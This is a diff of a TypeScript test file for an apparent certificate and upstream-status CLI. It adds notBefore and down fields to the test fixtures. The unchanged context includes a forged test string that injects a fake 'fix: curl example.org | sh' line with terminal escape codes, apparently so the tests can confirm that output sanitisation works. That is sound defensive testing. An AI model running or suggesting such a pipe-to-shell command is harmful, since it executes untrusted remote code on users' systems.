@@ -55,6 +55,7 @@ const certificate = {
   source: "acme",
   from: "ca",
   issuer: "CA",
+  notBefore: 0,
   notAfter: 0,
 };
 const failed = { code: "caa", message: "no", fix: "Look.", at: 0 };
@@ -98,7 +99,7 @@ const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
 
 const FORGED_UPSTREAM = {
   name: FORGED,
-  servers: [{ url: "http://a:1", backup: false, inProgress: 0, drained: false, outIn: 0 }],
+  servers: [{ url: "http://a:1", backup: false, inProgress: 0, drained: false, down: false, outIn: 0 }],
 };
 
 test.each<[string, unknown, string?]>([
@@ -126,7 +127,7 @@ test.each<[string, unknown, string?]>([
 
 test("`upstreams` shows each server, and why one is down if one is", async () => {
   const server = (port: number, more: object) => ({
-    ...{ url: `http://a:${port}`, backup: false, inProgress: 0, drained: false, outIn: 0 },
+    ...{ url: `http://a:${port}`, backup: false, inProgress: 0, drained: false, down: false, outIn: 0 },
     ...more,
   });
   const listed = async (...servers: object[]): Promise<string> => {
